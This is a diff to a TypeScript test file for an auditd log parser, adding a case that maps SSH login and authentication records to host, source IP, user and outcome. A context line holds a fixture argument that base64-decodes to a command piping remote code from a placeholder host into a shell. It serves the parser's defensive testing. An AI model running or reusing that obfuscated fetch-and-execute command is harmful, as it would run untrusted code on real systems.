@@ -43,4 +43,19 @@ describe('auditd records', () => {
     expect(JSON.parse(r.rows[0]!.extra as string)).toEqual({ type: 'EXECVE', audit_serial: '4567', argc: '3', a0: 'bash', a1: '-c', a2: 'echo Y3VybCBodHRwOi8veC55L3ogfCBzaA== | base64 -d | bash' });
     expect(JSON.parse(r.rows[1]!.extra as string)).toMatchObject({ a0: 'sh', a1: '-c', a2: 'echo "x=1 y=2" > /tmp/"a b"', a3: '--flag=on' });
   });
+
+  it("a login record's hostname= is the client's, kept in extra; the machine is node=, and the account its ENRICHED name", () => {
+    const r = parseText(
+      [
+        `node=web1 type=USER_LOGIN msg=audit(1796522600.200:4461): pid=812 uid=0 auid=1001 ses=7 msg='op=login id=1001 exe="/usr/sbin/sshd" hostname=185.220.101.45 addr=185.220.101.45 terminal=/dev/pts/0 res=success'\u001dUID="root" AUID="deploy" ID="deploy"`,
+        `node=web1 type=USER_AUTH msg=audit(1796522601.000:4462): pid=813 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="admin" exe="/usr/sbin/sshd" hostname=scanner.example.net addr=203.0.113.9 terminal=ssh res=failed'`,
+      ].join('\n') + '\n',
+    );
+    expect(r.quarantined).toEqual([]);
+    expect(r.rows.map((e) => [e.host, e.src_ip, e.user, e.action])).toEqual([
+      ['web1', '185.220.101.45', 'deploy', 'auth_success'],
+      ['web1', '203.0.113.9', 'admin', 'auth_failure'],
+    ]);
+    expect(JSON.parse(r.rows[1]!.extra as string)).toMatchObject({ hostname: 'scanner.example.net' });
+  });
 });
